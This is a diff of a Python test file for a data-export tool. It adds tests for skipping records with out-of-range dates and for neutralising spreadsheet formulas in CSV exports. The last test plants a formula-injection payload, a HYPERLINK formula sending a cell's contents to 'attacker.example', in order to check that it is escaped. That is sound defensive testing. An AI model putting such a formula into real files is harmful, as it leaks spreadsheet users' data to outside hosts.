@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import shutil
-from datetime import timedelta
+from datetime import date, timedelta
 from pathlib import Path
 
 import pytest
@@ -17,6 +17,7 @@ from facility.cli import app
 from facility.config import get_settings
 from facility.db import make_engine, upgrade
 from facility.exports import iati
+from facility.exports.cli import SKIPPED_RECORDS
 from facility.offers.models import Offer
 from tests.conftest import BACKENDS, _create_postgres_database
 from tests.exports.world import SECRET_TEXTS, build_world
@@ -107,12 +108,10 @@ def test_a_file_that_would_not_validate_is_not_written(seeded, tmp_path, monkeyp
     assert out.read_bytes() == b"the previous file"
 
 
-@pytest.fixture(scope="module", params=BACKENDS)
-def broken_window(request, templates, tmp_path_factory):
-    """A committed database of the test world, on each backend, whose Norad offer has a window
-    ending before it starts: data the offer form refuses, written straight into the database.
-    The XSD accepts the file it makes; IATI's date_order rule does not."""
-    if request.param == "sqlite":
+def _committed_world_with(backend: str, templates, tmp_path_factory, change) -> tuple[str, int, object]:
+    """A committed database of the test world on `backend`, its Norad offer changed by `change`
+    straight in the database (data the offer form refuses): (url, offer id, drop)."""
+    if backend == "sqlite":
         path = tmp_path_factory.mktemp("broken") / "seeded.db"
         shutil.copy(templates[0]["seeded"], path)
         url, drop, world = f"sqlite:///{path}", (lambda: None), templates[1]
@@ -127,12 +126,57 @@ def broken_window(request, templates, tmp_path_factory):
     offer_id = world.offers["norad_pub"].id
     with Session(engine) as session:
         offer = session.get(Offer, offer_id)
-        offer.window_end = offer.window_start - timedelta(days=1)
+        change(offer)
         session.add(offer)
         session.commit()
     engine.dispose()
+    return url, offer_id, drop
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def broken_window(request, templates, tmp_path_factory):
+    """The world whose Norad offer has a window ending before it starts. The XSD accepts the
+    file it makes; IATI's date_order rule does not."""
+    def change(offer):
+        offer.window_end = offer.window_start - timedelta(days=1)
+    url, offer_id, drop = _committed_world_with(request.param, templates, tmp_path_factory, change)
     yield url, offer_id
     drop()
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def far_window(request, templates, tmp_path_factory):
+    """The world whose Norad offer (with an engagement) runs to 9999-12-31, as it could be
+    posted before dates were bounded: its yearly budget periods run past year 9999."""
+    def change(offer):
+        offer.window_end = date(9999, 12, 31)
+    url, offer_id, drop = _committed_world_with(request.param, templates, tmp_path_factory, change)
+    yield url, offer_id
+    drop()
+
+
+def test_a_record_that_cannot_be_written_is_skipped_and_reported_and_the_rest_published(
+        far_window, tmp_path, monkeypatch):
+    url, offer_id = far_window
+    monkeypatch.setenv("FACILITY_DATABASE_URL", url)
+    get_settings.cache_clear()
+    out = tmp_path / "activities.xml"
+    try:
+        result = CliRunner().invoke(app, ["export", "iati", "--output", str(out), "--organisation-id",
+                                          "XM-DAC-41313", "--schema", str(SCHEMA)])
+    finally:
+        get_settings.cache_clear()
+    assert result.exit_code == SKIPPED_RECORDS, result.output
+    assert f"skipped XM-DAC-41313-OFFER-{offer_id}: ValueError: year 10000 is out of range" \
+        in result.output
+    assert "its offer XM-DAC-41313-OFFER-" in result.output  # its engagement went with it
+    assert "record(s) skipped (listed above); the file holds the others" in result.output
+    activities = etree.parse(str(out)).getroot()
+    identifiers = [a.findtext("iati-identifier") for a in activities]
+    assert f"XM-DAC-41313-OFFER-{offer_id}" not in identifiers
+    assert len([i for i in identifiers if "-OFFER-" in i]) >= 2  # everyone else's offers
+    refs = {r.get("ref") for r in activities.iter("related-activity")}
+    assert refs <= set(identifiers)  # no child points at a parent left out, nor the reverse
 
 
 def test_an_export_breaking_the_standard_ruleset_is_refused_with_the_rule_and_the_activity(
@@ -191,3 +235,19 @@ def test_export_public_refuses_an_unknown_format(cli_db, tmp_path):
     result = runner.invoke(app, ["export", "public", "--format", "xml", "--output", str(tmp_path / "x")])
     assert result.exit_code == 1 and "--format: 'xml' is not one of csv, json" in result.output
     assert not (tmp_path / "x").exists()
+
+
+def test_export_public_csv_writes_a_formula_as_text(seeded, tmp_path):
+    runner, world = seeded
+    engine = make_engine(get_settings().database_url)
+    with Session(engine) as session:
+        offer = session.get(Offer, world.offers["norad_pub"].id)
+        offer.title = '=HYPERLINK("http://attacker.example/?leak="&A2,"Details")'
+        session.add(offer)
+        session.commit()
+    engine.dispose()
+    assert runner.invoke(app, ["export", "public", "--format", "csv", "--output",
+                               str(tmp_path)]).exit_code == 0
+    with (tmp_path / "offers.csv").open(encoding="utf-8", newline="") as handle:
+        titles = {o["title"] for o in csv.DictReader(handle)}
+    assert """'=HYPERLINK("http://attacker.example/?leak="&A2,"Details")""" in titles
